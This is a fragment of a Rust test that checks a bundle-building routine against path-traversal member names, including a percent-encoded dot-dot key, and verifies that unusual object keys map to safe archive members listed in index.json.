        assert!(!name.starts_with(b"/"), "{}", name.escape_ascii());
        for seg in name.split(|&b| b == b'/') {
            assert!(
                !seg.is_empty() && seg != b".." && seg != b".",
                "{}",
                name.escape_ascii()
            );
        }
    }
    let content = |m: &str| {
        members
            .iter()
            .find(|(n, _)| n == m.as_bytes())
            .map(|(_, b)| b.clone())
            .unwrap_or_else(|| panic!("{m} not in the bundle"))
    };
    assert_eq!(content(&good), gz(&record));
    assert_eq!(content(&format!("{day}%2E%2E/x.json")), b"{}");
    let index: Value = serde_json::from_slice(&content("index.json")).unwrap();
    let objects = index["objects"].as_array().unwrap();
    assert_eq!(objects.len(), 4, "{index:#}");
    for k in &odd {
        let o = objects
            .iter()
            .find(|o| o["key"] == k.as_str())
            .unwrap_or_else(|| panic!("{k} not in {index:#}"));
        let m = o["member"].as_str().unwrap();
        assert_ne!(m, k);
        assert_eq!(content(m), b"{}");
        assert_eq!(custody::collect::member::raw_name(m), k.as_bytes());
    }
}
